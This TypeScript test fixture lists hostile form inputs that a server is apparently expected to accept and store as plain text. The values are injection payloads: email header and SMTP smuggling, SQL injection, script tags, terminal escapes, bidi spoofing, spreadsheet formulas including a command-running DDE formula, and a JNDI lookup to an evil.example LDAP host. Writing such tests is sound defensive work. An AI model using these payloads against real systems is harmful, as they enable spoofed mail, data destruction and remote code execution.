import { form } from "../wire.ts";
import type { HostileCase } from "./hostile-case.ts";

const kept = (
	name: string,
	fields: Record<string, string>,
	stores: HostileCase["stores"] = fields,
): HostileCase => ({
	name,
	wire: form(fields),
	status: 200,
	body: /^OK$/,
	stores,
});

/** Text that could do harm in a mail, terminal, spreadsheet or database. All of it is stored as text. */
export const content: HostileCase[] = [
	kept(
		"a Bcc header after the name",
		{ user_name: "Eve\r\nBcc: all@evil.example" },
		{ user_name: "Eve\nBcc: all@evil.example" },
	),
	kept("headers and a body after the name", { user_name: "Eve\n\nTo: all@evil.example\n\n<h1>Hi" }),
	kept(
		"the end of an SMTP message in the company",
		{ company: "a\r\n.\r\nMAIL FROM:<x@evil.example>" },
		{ company: "a\n.\nMAIL FROM:<x@evil.example>" },
	),
	kept("a name that looks like addresses", { user_name: '"<x@evil.example>, y@evil.example' }),
	kept("a name as an encoded word", { user_name: "=?utf-8?Q?Eve=0D=0ABcc:=20all@evil.example?=" }),
	kept("percent-encoded line breaks", { user_name: "Eve%0d%0aBcc: all@evil.example" }),
	kept(
		"unusual line separators",
		{ user_name: "Eve\u2028Bcc: a\u2029b\u0085c\u000bd" },
		{ user_name: "Eve\u2028Bcc: a\u2029bcd" },
	),
	kept("bidi overrides", { user_name: "Eve\u202Egpj.exe", message: "a\u2066b\u2069c" }),
	kept("lines of dots", { message: ".\n..\n.\nQUIT" }),
	kept("From at the start of a line", { message: "From eve@evil.example Thu Jan  1\nFrom here" }),
	kept("a line of nine thousand characters", { message: "x".repeat(9_000) }),
	kept("HTML", {
		message: '<script>alert(1)</script><img src=x onerror="alert(2)">',
		company: "<b>&amp;",
	}),
	kept("an unclosed HTML comment", { message: "<!--", company: "--><plaintext>" }),
	kept(
		"terminal escape sequences",
		{ message: "\u001b[2J\u001b]0;title\u0007red" },
		{ message: "[2J]0;titlered" },
	),
	kept("SQL", { user_name: "'); DROP TABLE enquiries; --", company: "\\' OR 1=1" }),
	kept("placeholders and template syntax", {
		message: "? $1 $& $` $\u007bx} {{7*7}} <%= 1 %> %s %n",
	}),
	kept("a JNDI lookup", { message: "$\u007bjndi:ldap://evil.example/a}" }),
	...[
		"=1+1",
		"+1+1",
		"-1+1",
		"@SUM(A1)",
		"=cmd|'/C calc'!A0",
		"＝1+1",
		"＋1",
		"－1",
		"＠A1",
		"%0A=1",
	].map((formula) => kept(`the formula ${formula}`, { company: formula })),
	kept("a formula after quotes", { company: '","=1+1","' }),
	kept("a name in many scripts with combining marks", { user_name: "Z̷̢͝á̶l̵g̸o̴ 你好 שלום مرحبا" }),
];
